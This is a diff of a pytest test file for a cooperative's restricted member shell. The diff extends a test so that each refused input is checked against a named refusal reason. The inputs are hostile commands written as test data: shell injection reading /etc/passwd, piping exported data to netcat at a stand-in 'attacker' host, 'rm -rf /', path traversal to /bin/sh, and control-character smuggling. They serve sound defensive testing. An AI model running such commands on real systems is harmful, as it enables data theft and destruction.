@@ -35,33 +35,35 @@ def test_status_shows_only_the_members_own_record(coop: Path, capsys) -> None:  
         assert other not in out
 
 
-@pytest.mark.parametrize("command", [
-    "status --member bread-coop",          # a forged slug: no such option
-    "status bread-coop",                   # extra argument
-    "status; cat /etc/passwd",
-    "status && id",
-    "$(id)",
-    "`id`",
-    "export | nc attacker 80",
-    "request mail --set quota_mb=10 ; rm -rf /",
-    "-i /etc status",
-    "--inventory=/ status",
-    "member-shell bread-coop",
-    "deploy",
-    "lab ssh h1",
-    "../../bin/sh",
-    "status 'unbalanced",
-    "status\x00",
-    "status\nid",
-    "x" * 5000,
-    " ".join(["status"] * 50),
+@pytest.mark.parametrize(("command", "reason"), [
+    ("status --member bread-coop", "No such option '--member'"),  # a forged slug
+    ("status bread-coop", "unexpected extra argument"),
+    ("status; cat /etc/passwd", "'status;' is not a member verb"),
+    ("status && id", "unexpected extra arguments"),
+    ("$(id)", "'$(id)' is not a member verb"),
+    ("`id`", "'`id`' is not a member verb"),
+    ("export | nc attacker 80", "unexpected extra arguments"),
+    ("request mail --set quota_mb=10 ; rm -rf /", "No such option '-r'"),
+    ("-i /etc status", "'-i' is not a member verb"),
+    ("--inventory=/ status", "'--inventory=/' is not a member verb"),
+    ("member-shell bread-coop", "'member-shell' is not a member verb"),
+    ("deploy", "'deploy' is not a member verb"),
+    ("lab ssh h1", "'lab' is not a member verb"),
+    ("../../bin/sh", "'../../bin/sh' is not a member verb"),
+    ("status 'unbalanced", "cannot read the command: No closing quotation"),
+    ("status\x00", "control characters are not accepted"),
+    ("status\nid", "control characters are not accepted"),
+    ("x" * 5000, "command too long (5000 characters; at most 2048)"),
+    (" ".join(["status"] * 50), "too many arguments (50; at most 40)"),
 ])
-def test_anything_but_a_member_verb_is_refused(coop: Path, capsys, command: str) -> None:  # type: ignore[no-untyped-def]
+def test_anything_but_a_member_verb_is_refused(coop: Path, capsys, command: str,  # type: ignore[no-untyped-def]
+                                               reason: str) -> None:
     before = (coop / "members" / "bread-coop.yml").read_text()
     code, out = shell(coop, command)
     err = capsys.readouterr().err
     assert code == 2, (command, out, err)
     assert err.startswith("refused:"), err
+    assert reason in err, (reason, err)  # the limit or rule that refused it, named
     assert "bread-coop" not in out
     assert load_requests(coop) == []
     assert (coop / "members" / "bread-coop.yml").read_text() == before
